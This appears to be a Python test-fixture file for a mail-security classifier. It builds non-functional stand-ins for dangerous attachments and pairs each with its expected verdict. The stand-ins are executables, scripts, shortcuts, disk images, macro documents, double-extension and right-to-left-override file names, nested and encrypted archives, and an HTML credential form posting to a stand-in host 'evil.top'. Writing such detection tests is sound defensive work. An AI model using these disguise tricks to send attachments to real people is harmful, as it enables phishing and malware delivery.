"""Which attachments do harm? Each in a mail in the shop's name."""

import io
import struct
import zipfile
from dataclasses import replace

from tests.mail.table.hostile.links import NAMED, NAMED_JA, vouched
from tests.mail.table.making import File, Letter, Mail, Row, row, strange

PROGRAM = b"MZ\x90\0" + bytes(60) + b"PE\0\0" + bytes(64)
SHORTCUT = b"L\0\0\0\x01\x14\x02\0" + bytes(68)
PAGE = b"<html><form action='https://evil.top'><input name=p></form></html>"
IMAGE = bytes(0x8001) + b"CD001" + bytes(2048)
SOME = "name.claims_shop or asks.in_shops_name"


def packed(**files: bytes) -> bytes:
    """A ZIP of those files (`__` in a name is a dot)."""
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "."), content)
    return whole.getvalue()


def locked() -> bytes:
    """A ZIP whose one entry says that it is encrypted: the flag stands in both of its headers."""
    whole = bytearray(packed(invoice__pdf=b"%PDF-1.4 not really"))
    local, central = whole.index(b"PK\3\4"), whole.index(b"PK\1\2")
    for place in (local + 6, central + 8):
        struct.pack_into("<H", whole, place, struct.unpack_from("<H", whole, place)[0] | 1)
    return bytes(whole)


MACROS = packed(
    **{"[Content_Types]__xml": b"<Types/>", "word/vbaProject__bin": bytes(64), "word/document__xml": b"<w/>"}
)


def with_file(name: str, content: bytes, kind: str = "application/octet-stream", letter: Letter = NAMED) -> Mail:
    return strange(replace(letter, files=(File(name, content, kind),)))


def file(title: str, name: str, content: bytes, because: str, kind: str = "application/octet-stream") -> Row:
    return row(title, lambda: with_file(name, content, kind), "forged", because)


def doubtful(title: str, name: str, content: bytes, because: str, kind: str) -> Row:
    """Weak by itself: honest senders attach these too."""
    return row(title, lambda: with_file(name, content, kind), "forged or unknown", because)


RUNS, TWO = "attachment.runs", "attachment.two_names"
ROWS = (
    file("a program", "invoice.exe", PROGRAM, RUNS),
    row("a program with a Japanese name", lambda: with_file("請求書.exe", PROGRAM, letter=NAMED_JA), "forged", RUNS,
        "ja"),
    file("a script", "invoice.js", b"var a=1", RUNS),
    file("a script for Windows", "invoice.vbs", b"x", RUNS),
    file("a shortcut", "invoice.lnk", SHORTCUT, RUNS),
    file("a disk image", "invoice.iso", IMAGE, RUNS),
    file("a program that says it is a PDF", "invoice.pdf", PROGRAM, RUNS, "application/pdf"),
    file("a program without a suffix", "invoice", PROGRAM, RUNS),
    file("two suffixes", "invoice.pdf.exe", PROGRAM, f"{TWO} or {RUNS}"),
    row("two suffixes and spaces between, in Japanese",
        lambda: with_file(f"請求書.pdf{' ' * 60}.scr", PROGRAM, letter=NAMED_JA), "forged", f"{TWO} or {RUNS}", "ja"),
    file("a name turned round by a direction mark", "invoice_\u202efdp.exe", PROGRAM, f"{TWO} or {RUNS}"),
    doubtful("a web page", "invoice.html", PAGE, f"{SOME} or attachment.page or form.elsewhere", "text/html"),
    doubtful("a picture that is a page", "logo.svg", b"<svg><script>1</script></svg>", f"{SOME} or attachment.page",
        "image/svg+xml"),
    doubtful("an encrypted archive", "invoice.zip", locked(), f"{SOME} or attachment.locked", "application/zip"),
    file("a document with macros", "invoice.docm", MACROS, RUNS),
    file("a document with macros that says it has none", "invoice.docx", MACROS, f"{RUNS} or {TWO}"),
    file("a program in an archive", "invoice.zip", packed(invoice__exe=PROGRAM), RUNS, "application/zip"),
    file("a program in an archive in an archive", "a.zip", packed(b__zip=packed(invoice__exe=PROGRAM)), RUNS),
    file("two suffixes in an archive", "a.zip", packed(invoice__pdf__exe=PROGRAM), f"{TWO} or {RUNS}"),
    vouched("the ledger knows it, a program is attached", RUNS, files=(File("invoice.exe", PROGRAM),)),
    vouched("the ledger knows it, a program in an archive is attached", RUNS,
            files=(File("invoice.zip", packed(invoice__js=b"1")),)),
)  # fmt: skip
